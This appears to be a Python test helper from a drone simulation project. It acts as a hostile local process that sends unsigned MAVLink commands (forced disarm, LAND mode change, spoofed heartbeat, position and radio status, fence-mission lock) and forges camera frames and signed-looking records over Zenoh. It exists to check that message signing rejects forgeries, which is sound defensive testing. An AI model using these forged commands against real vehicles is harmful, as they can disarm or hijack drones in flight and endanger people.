"""A hostile local process for the signing tests (issue 27): one attack, repeated until SIGTERM,
then one JSON line on stdout with what it sent and what came back.

    python tests/attacker.py ATTACK --instance N [--zenoh-port P]

It holds no key: everything it sends is unsigned MAVLink 2 (pymavlink) or a camera frame in
the unsigned wire format (perception.transport), as any process on the machine could send.

ATTACK
  heartbeat      HEARTBEAT as the autopilot (system 1+N, component 1) in PX4 AUTO.LAND, armed,
                 to the companion's port 14540+N
  disarm         COMMAND_LONG MAV_CMD_COMPONENT_ARM_DISARM force-disarm (param2 21196) to the
                 vehicle's ground-station port 18570+N
  position       LOCAL_POSITION_NED as the autopilot (north 1234.5 m, east -987 m, down -50 m)
                 to the companion's port 14540+N
  mission-count  MISSION_COUNT (fence, 5 items) to the ground-station port every --period s
                 (2 s: the lock as the issue found it, renewed before the vehicle's 5 s timeout)
  ap-land        COMMAND_LONG MAV_CMD_DO_SET_MODE to ArduCopter's LAND (custom mode 9) to the
                 ground-station port 18570+N
  radio-status   RADIO_STATUS as a SiK radio (system 51, component 68) to the ground-station
                 port: the one message ArduPilot accepts unsigned on a signed link
  frame          the camera's next frame forged (same stream id, sequence + 1, a black image)
                 on skyherd/uav0/camera/frame at tcp/127.0.0.1:P, --count times
  records        at each of the companion's first --count decisions seen on
                 skyherd/uav0/decision, one forged JSON record on each key the companion or the
                 recorder trusts: camera/info (a 9999-pixel-wide camera), decision and
                 safety/event (marked "forged"), UGV 0's state (500 m north) and the clock
                 (t_sim 9999 s); half without "mac", half with a MAC under a key of its own
"""

from __future__ import annotations

import argparse
import json
import os
import queue
import signal
import sys
import time

RATE_S = 0.02  # [s wall] between repeats of the MAVLink attacks (but mission-count)
MISSION_COUNT_PERIOD_S = 2.0  # [s wall]
FAKE_NED = (1234.5, -987.0, -50.0)  # [m] the spoofed position
PX4_AUTO_LAND = (4 << 16) | (6 << 24)  # PX4 custom_mode: main mode AUTO (4), sub mode LAND (6)
COPTER_LAND = 9  # ArduCopter custom_mode LAND
SIK_RADIO = (51, 68)  # the system and component a SiK radio sends RADIO_STATUS as ('3', 'D')


def _stop_flag() -> dict:
    flag = {"stop": False}

    def on_term(_signum, _frame) -> None:
        flag["stop"] = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    return flag


def mavlink_attack(attack: str, instance: int, flag: dict, period_s: float) -> dict:
    os.environ["MAVLINK20"] = "1"  # pymavlink's mavutil: MAVLink 2 frames, as skyherd speaks
    from pymavlink import mavutil
    from pymavlink.dialects.v20 import ardupilotmega as M

    sysid = 1 + instance
    to_companion = attack in ("heartbeat", "position")
    port = 14540 + instance if to_companion else 18570 + instance
    src = (sysid, 1) if to_companion else (255, 190)  # as the autopilot / as a ground station
    if attack == "radio-status":
        src = SIK_RADIO  # as a SiK telemetry radio
    conn = mavutil.mavlink_connection(f"udpout:127.0.0.1:{port}", source_system=src[0],
                                      source_component=src[1], dialect="ardupilotmega")  # fmt: skip
    mav = conn.mav
    sent, replies = 0, {}
    t0 = time.monotonic()
    last = -1e9
    while not flag["stop"]:
        now = time.monotonic()
        period = period_s if attack == "mission-count" else RATE_S
        if now - last >= period:
            last = now
            ms = int((now - t0) * 1000) + 3_600_000  # newer than any flight's own time
            if attack == "heartbeat":
                msg = mav.heartbeat_encode(M.MAV_TYPE_QUADROTOR, M.MAV_AUTOPILOT_PX4,
                                           M.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED | M.MAV_MODE_FLAG_SAFETY_ARMED,
                                           PX4_AUTO_LAND, M.MAV_STATE_ACTIVE)  # fmt: skip
            elif attack == "position":
                msg = mav.local_position_ned_encode(ms, *FAKE_NED, 0.0, 0.0, 0.0)
            elif attack == "disarm":
                msg = mav.command_long_encode(sysid, 1, M.MAV_CMD_COMPONENT_ARM_DISARM, 0,
                                              0, 21196, 0, 0, 0, 0, 0)  # fmt: skip
            elif attack == "mission-count":
                msg = mav.mission_count_encode(sysid, 1, 5, mission_type=M.MAV_MISSION_TYPE_FENCE)
            elif attack == "ap-land":
                msg = mav.command_long_encode(sysid, 1, M.MAV_CMD_DO_SET_MODE, 0,
                                              M.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED, COPTER_LAND,
                                              0, 0, 0, 0, 0)  # fmt: skip
            elif attack == "radio-status":
                msg = mav.radio_status_encode(200, 190, 100, 100, 90, 0, 0)
            else:
                raise SystemExit(f"attacker: unknown MAVLink attack {attack!r}")
            try:
                conn.mav.send(msg)
                sent += 1
            except OSError:
                pass  # nobody listening yet (ICMP refused): try again
        try:
            m = conn.recv_match(blocking=True, timeout=0.01)
        except OSError:
            m = None
        if m is not None and m.get_type() != "BAD_DATA":
            name = m.get_type()
            if name == "COMMAND_ACK":
                name = f"COMMAND_ACK:{m.command}:{m.result}"
            elif name == "MISSION_ACK":
                name = f"MISSION_ACK:{m.type}"
            replies[name] = replies.get(name, 0) + 1
    conn.close()
    return {"attack": attack, "sent": sent, "replies": replies}


def frame_attack(instance: int, zenoh_port: int, flag: dict, count: int) -> dict:
    """Listen to the camera, and answer each real frame with a forged next one (same stream
    id, sequence + 1) at once, so the forgery arrives before the real frame of that number."""
    import numpy as np
    import zenoh

    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))  # skyherd
    from skyherd.perception.transport import decode_frame, encode_frame, frame_key

    session = _client(zenoh_port, flag)
    if session is None:
        return {"attack": "frame", "sent": 0, "seen": 0}
    key = frame_key("uav0")
    # BLOCK: every forgery reaches the companion (under Zenoh's default, DROP, a loaded machine
    # dropped 2 of 10 on their way through the simulator's peer: the test counts them all)
    pub = session.declare_publisher(key, congestion_control=zenoh.CongestionControl.BLOCK)
    state = {"sent": 0, "seen": 0}
    todo: queue.Queue = queue.Queue(maxsize=4)

    def on_frame(sample) -> None:  # Zenoh's thread: read only; the main thread forges
        try:
            todo.put_nowait(bytes(sample.payload.to_bytes()))
        except queue.Full:
            pass

    sub = session.declare_subscriber(key, on_frame)
    own: set[bytes] = set()
    while not flag["stop"]:
        if state["sent"] >= count:  # forged enough: wait for the end
            time.sleep(0.05)
            continue
        try:
            data = todo.get(timeout=0.05)
        except queue.Empty:
            continue
        if data in own:
            continue
        try:
            f = decode_frame(data)  # a signed frame reads too: only its trailer is unknown
        except ValueError:
            continue
        state["seen"] += 1
        forged = encode_frame(f.seq + 1, round(f.t_sim + 0.1, 6), f.pos_ned, f.quat,
                              np.zeros_like(f.image), f.encoding, f.stream)  # fmt: skip
        own = {forged}
        pub.put(forged)
        state["sent"] += 1
    sub.undeclare()
    pub.undeclare()
    session.close()
    return {"attack": "frame", **state}


FORGED_T_SIM = 9999.0  # [s] the forged records' time: no real flight reaches it
FORGED_NORTH = 500.0  # [m] the forged UGV state


def forged_records(n: int) -> dict[str, dict]:
    """The n-th set of forged records, by Zenoh key."""
    t = FORGED_T_SIM + n
    return {
        "skyherd/uav0/camera/info": {"width_px": 9999, "height_px": 1, "fx_px": 1.0, "fy_px": 1.0,
                                     "cx_px": 0.0, "cy_px": 0.0, "t_sim": t, "forged": True},
        "skyherd/uav0/decision": {"t": t, "vehicle": "uav0", "mode": "ai", "forged": True},
        "skyherd/uav0/safety/event": {"t": t, "event": "switch", "from": "ai", "to": "pid",
                                      "reason": "forged"},
        "skyherd/ugv/0/state": {"id": 0, "seq": 10**6 + n, "t_sim": t,
                                "pos_ned": [FORGED_NORTH, 0.0, 0.0], "heading_rad": 0.0,
                                "speed_mps": 0.0, "camouflaged": False},
        "skyherd/sim/clock": {"t_sim": t},
    }  # fmt: skip


def _client(zenoh_port: int, flag: dict):
    """A Zenoh client session on the simulator's port, once it listens (None if stopped first)."""
    import zenoh

    conf = zenoh.Config()
    conf.insert_json5("mode", '"client"')
    conf.insert_json5("connect/endpoints", json.dumps([f"tcp/127.0.0.1:{zenoh_port}"]))
    conf.insert_json5("scouting/multicast/enabled", "false")
    while not flag["stop"]:  # the simulator's peer listens only once it has started
        try:
            return zenoh.open(conf)
        except zenoh.ZError:
            time.sleep(0.2)
    return None


def records_attack(zenoh_port: int, flag: dict, count: int) -> dict:
    """At each real decision seen (up to `count`), one forged record on every trusted key."""
    import hashlib

    session = _client(zenoh_port, flag)
    if session is None:
        return {"attack": "records", "sent": 0, "seen": 0}
    pubs = {k: session.declare_publisher(k) for k in forged_records(0)}
    seen: queue.Queue = queue.Queue()
    sub = session.declare_subscriber("skyherd/uav0/decision",
                                     lambda sample: seen.put(bytes(sample.payload.to_bytes())))  # fmt: skip
    own_key = os.urandom(32)
    state = {"sent": 0, "seen": 0}
    while not flag["stop"]:
        try:
            data = seen.get(timeout=0.05)
        except queue.Empty:
            continue
        if b'"forged"' in data or state["seen"] >= count:
            continue
        state["seen"] += 1
        for key, rec in forged_records(state["seen"]).items():
            if state["seen"] % 2:  # a MAC under the attacker's own key (as runio.mac makes it)
                body = json.dumps(rec, sort_keys=True, separators=(",", ":")).encode()
                rec = {**rec, "mac": hashlib.blake2b(body, key=own_key, digest_size=32).hexdigest()}
            pubs[key].put(json.dumps(rec).encode())
        state["sent"] += 1
    sub.undeclare()
    session.close()
    return {"attack": "records", **state}


def main(argv=None) -> int:
    p = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    p.add_argument("attack", choices=["heartbeat", "disarm", "position", "mission-count", "frame",
                                      "records", "radio-status", "ap-land"])  # fmt: skip
    p.add_argument("--instance", type=int, required=True, help="the vehicle instance N")
    p.add_argument("--zenoh-port", type=int, default=7447, help="the simulator's Zenoh port")
    p.add_argument("--period", type=float, default=MISSION_COUNT_PERIOD_S, metavar="S",
                   help="mission-count: seconds (wall) between MISSION_COUNTs")  # fmt: skip
    p.add_argument("--count", type=int, default=1 << 62, metavar="N",
                   help="frame: forge this many frames, then only wait (default: no limit)")  # fmt: skip
    args = p.parse_args(argv)
    flag = _stop_flag()
    if args.attack == "frame":
        out = frame_attack(args.instance, args.zenoh_port, flag, args.count)
    elif args.attack == "records":
        out = records_attack(args.zenoh_port, flag, args.count)
    else:
        out = mavlink_attack(args.attack, args.instance, flag, args.period)
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
